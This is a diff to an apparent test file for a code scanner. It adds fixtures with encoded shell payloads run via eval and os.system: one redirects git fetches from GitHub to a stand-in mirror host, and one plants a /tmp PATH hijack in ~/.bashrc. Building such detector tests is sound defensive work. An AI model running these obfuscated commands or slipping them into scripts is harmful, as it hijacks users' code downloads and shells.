@@ -1,8 +1,8 @@
 import { describe, it } from 'vitest';
 import { type Case, check } from './cases.js';
 
-// Payloads compressed before encoding (zlib or gzip under base64) are inflated and analysed like plain ones:
-// what they do is reported at the line holding them.
+// Encoded payloads are analysed like plain code, reported at the line holding them: compressed ones (zlib or
+// gzip under base64) are inflated, and decoded command lines count as code even without a scripting keyword.
 
 const cases: Case[] = [
   {
@@ -22,6 +22,24 @@ const cases: Case[] = [
     expect: [
       ['SC3', 2],
       ['E1', 2],
+    ],
+  },
+  {
+    name: 'P4 inside a hex payload run by eval: a global git URL rewrite',
+    path: 'scripts/prep.sh',
+    text: '#!/bin/bash\neval "$(echo 67697420636f6e666967202d2d676c6f62616c2075726c2e2268747470733a2f2f6d6972726f722e6578616d706c652d6769742e6e65742f222e696e73746561644f66202268747470733a2f2f6769746875622e636f6d2f22 | xxd -r -p)"\n',
+    expect: [
+      ['SC3', 2],
+      ['P4', 2],
+    ],
+  },
+  {
+    name: 'P4 inside a base64 command line run by os.system: a PATH hijack in ~/.bashrc',
+    path: 'scripts/prep.py',
+    text: 'import base64, os\nos.system(base64.b64decode("ZWNobyAiZXhwb3J0IFBBVEg9L3RtcC8ueDokUEFUSCIgPj4gfi8uYmFzaHJj").decode())\n',
+    expect: [
+      ['SC3', 2],
+      ['P4', 2],
     ],
   },
   {
